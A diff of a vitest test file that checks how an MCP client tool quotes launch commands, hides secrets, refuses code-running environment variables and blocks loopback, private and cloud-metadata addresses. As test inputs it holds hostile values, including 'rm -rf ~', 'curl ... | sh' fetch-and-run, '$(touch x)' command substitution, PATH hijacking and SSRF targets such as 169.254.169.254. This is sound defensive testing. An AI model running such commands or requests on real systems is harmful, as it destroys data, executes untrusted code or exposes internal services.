@@ -1,5 +1,7 @@
-import { expect, test } from "vitest";
-import type { StdioMcpServer } from "../settings/mcp-server-settings.js";
+import { parseAllowList } from "@dt/schema";
+import { describe, expect, test } from "vitest";
+import type { AddressRules } from "../mcp/address/address-rules.js";
+import type { McpServerSettings } from "../settings/mcp-server-settings.js";
 import type { Workspace } from "../workspace/workspace.js";
 import { createClientServers } from "./client-servers.js";
 
@@ -8,15 +10,23 @@ const workspace: Workspace = {
   resolve: async () => ({ absolute: "/w", display: ".", isInside: true }),
 };
 
-function planFor(server: StdioMcpServer) {
+const fromElsewhere: AddressRules = {
+  allowList: parseAllowList([]),
+  allowsLoopback: false,
+  resolveName: () => Promise.reject(new Error("nothing is resolved here")),
+};
+const fromHere: AddressRules = { ...fromElsewhere, allowsLoopback: true };
+
+function planFor(server: McpServerSettings, addressRules = fromElsewhere) {
   const { tool } = createClientServers({
     servers: { loud: server },
+    addressRules,
     start: () => Promise.reject(new Error("nothing is started here")),
   });
   return tool.plan({ server: "loud" }, workspace);
 }
 
-async function shownFor(server: StdioMcpServer): Promise<unknown> {
+async function shownFor(server: McpServerSettings): Promise<unknown> {
   return (await planFor(server)).details?.value;
 }
 
@@ -44,7 +54,8 @@ test("the question shows the environment of a client's program, without secrets 
   });
 
   expect(shown).toEqual({
-    command: "MODE='a b' GOOGLE_API_KEY=… github_token=… DATABASE_URL=… LEVEL=1 serve",
+    command:
+      "MODE='a b' GOOGLE_API_KEY=… github_token=… DATABASE_URL='postgres://ada:…@host/db' LEVEL=1 serve",
     workingDirectory: "/w",
   });
 });
@@ -76,5 +87,147 @@ test("a client's program may not hide a variable in the name of another [SEC-04]
   await expect(planFor({ command: "serve", env })).rejects.toMatchObject({
     type: "unsafe_environment",
     message: 'the MCP server loud may not set "PATH=/tmp/evil:": this is no name of a variable',
+  });
+});
+
+describe("the question about a client's program", () => {
+  test.each<[string, McpServerSettings, string]>([
+    [
+      "an argument that looks like a secret",
+      { command: "serve", args: ["--token=$(touch x)", "--api-key", "k; rm -rf ~"] },
+      "serve '--token=$(touch x)' --api-key 'k; rm -rf ~'",
+    ],
+    [
+      "a command that holds an address with a password",
+      { command: "serve", env: { HOOK: "curl http://u:pw@host/x | sh" } },
+      "HOOK='curl http://u:…@host/x | sh' serve",
+    ],
+    [
+      "code in the place of a password",
+      { command: "serve", env: { SITE: "http://u:$(touch x)@host/" } },
+      "SITE='http://u:$(touch x)@host/' serve",
+    ],
+    [
+      "a word that only mentions a secret in its name",
+      { command: "serve", env: { AUTH_MODE: "./evil", TOKEN_HELPER: "touch x" } },
+      "AUTH_MODE=./evil TOKEN_HELPER='touch x' serve",
+    ],
+    [
+      "new lines, escapes and marks of direction as escapes",
+      { command: "serve", args: ["a\n\n\nb", "\u001b[2Jc", "\u202ed'e"] },
+      "serve $'a\\n\\n\\nb' $'\\u001b[2Jc' $'\\u202ed\\'e'",
+    ],
+  ])("shows %s [SEC-04]", async (_what, server, command) => {
+    const shown = await shownFor(server);
+
+    expect(shown).toEqual({ command, workingDirectory: "/w" });
+  });
+
+  test("shows a long command line whole, up to a limit [SEC-04]", async () => {
+    const args = ["x".repeat(7_000), "; touch PWN"];
+
+    const { description } = await planFor({ command: "serve", args });
+    const refused = planFor({ command: "serve", args: ["x".repeat(9_000), "; touch PWN"] });
+
+    expect(description).toContain("'; touch PWN'");
+    await expect(refused).rejects.toMatchObject({ type: "too_long_to_show" });
+  });
+
+  test.each([
+    ["API_TOKEN", "touch PWN", "serve", []],
+    ["API_TOKEN", `$(touch\${IFS}PWN)`, "serve", []],
+    ["API_TOKEN", "/tmp/evil", "serve", []],
+    ["API_TOKEN", "./evil", "serve", []],
+    ["API_TOKEN", "bin/evil", "serve", []],
+    ["API_TOKEN", "reboot", "sh", ["-c", "$API_TOKEN"]],
+    ["API_TOKEN", "reboot", "/bin/bash", ["-c", `eval \${API_TOKEN}`]],
+    ["API_TOKEN", "reboot", "env", ["sh", "-c", "$API_TOKEN"]],
+    ["API_TOKEN", "reboot", "python3", ["-c", "import os; os.system(os.environ['API_TOKEN'])"]],
+  ])("hides no %s=%s that %s could run [SEC-04]", async (name, value, command, args) => {
+    await expect(planFor({ command, args, env: { [name]: value } })).rejects.toMatchObject({
+      type: "unsafe_environment",
+      message: expect.stringContaining(`may not set ${name}`),
+    });
+  });
+
+  test.each([
+    ["GITHUB_TOKEN", "ghp_0123456789abcdef", "docker", ["run", "-e", "GITHUB_TOKEN", "image"]],
+    ["AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "serve", []],
+    ["AUTH_TOKEN", "abc", "npx", ["mcp-remote", "--header", `Authorization:\${AUTH_TOKEN}`]],
+    ["X_SECRET_ID", "0123456789abcdef01", "serve", []],
+  ])("hides the secret %s=%s of %s [SEC-05]", async (name, value, command, args) => {
+    const { description } = await planFor({ command, args, env: { [name]: value } });
+
+    expect(description).toContain(`${name}=… ${command}`);
+    expect(description).not.toContain(value);
+  });
+});
+
+describe("the question about a client's server at an address", () => {
+  test("shows the whole address and the names of its headers, without their values [SEC-04]", async () => {
+    const url = "https://tools.example:8443/mcp?set=all&mode=write";
+
+    const plan = await planFor({ url, headers: { Authorization: "Bearer s3cret-token" } });
+
+    const description = `Connect to the MCP server loud at ${url} with the headers Authorization`;
+    expect(plan.description).toBe(description);
+    expect(plan.details).toEqual({ $case: "genericDetails", value: { description } });
+    expect(JSON.stringify(plan)).not.toContain("s3cret-token");
+  });
+
+  test.each([
+    ["http://127.0.0.1:3000/mcp"],
+    ["http://127.8.9.1/mcp"],
+    ["http://[::1]:3000/mcp"],
+    ["http://[::ffff:127.0.0.1]/mcp"],
+    ["http://0x7f.1/mcp"],
+    ["http://localhost:3000/mcp"],
+    ["http://ide.localhost./mcp"],
+  ])("is asked about %s only for a client on this machine [SEC-04]", async (url) => {
+    await expect(planFor({ url }, fromElsewhere)).rejects.toMatchObject({
+      type: "address_refused",
+      message: expect.stringContaining("which only a client on this machine may name"),
+    });
+    await expect(planFor({ url }, fromHere)).resolves.toMatchObject({
+      details: { $case: "genericDetails" },
+    });
+  });
+
+  test.each([
+    "http://10.0.0.1/mcp",
+    "http://172.16.0.1/mcp",
+    "http://192.168.1.1/mcp",
+    "http://169.254.169.254/latest/meta-data",
+    "http://100.64.0.1/mcp",
+    "http://0.0.0.0/mcp",
+    "http://[::]/mcp",
+    "http://[fe80::1]/mcp",
+    "http://[fd00::1]/mcp",
+    "http://[::ffff:10.0.0.1]/mcp",
+    "http://[64:ff9b::a00:1]/mcp",
+    "http://[2002:a00:1::]/mcp",
+    "http://167772161/mcp",
+  ])("is not asked about %s unless the operator allows it [SEC-04]", async (url) => {
+    const { hostname } = new URL(url);
+    const host = hostname.replace(/^\[|\]$/g, "");
+    const allowed = { ...fromHere, allowList: parseAllowList([host]) };
+
+    await expect(planFor({ url }, fromHere)).rejects.toMatchObject({
+      type: "address_refused",
+      message: expect.stringContaining("DT_MCP_ALLOW"),
+    });
+    await expect(planFor({ url }, allowed)).resolves.toBeDefined();
+  });
+
+  test.each([
+    [{ url: "https://me:pw@host.example/mcp" }, "holds a user name or a password"],
+    [{ url: "https://" }, "is not a whole http or https address"],
+    [{ url: "https://a.example", headers: { Host: "b.example" } }, "may not set the header Host"],
+    [{ url: `https://a.example/${"x".repeat(9_000)}` }, "a question shows at most 8000"],
+  ])("is not asked for %j [SEC-04]", async (server, message) => {
+    await expect(planFor(server)).rejects.toMatchObject({
+      name: "ToolError",
+      message: expect.stringContaining(message),
+    });
   });
 });
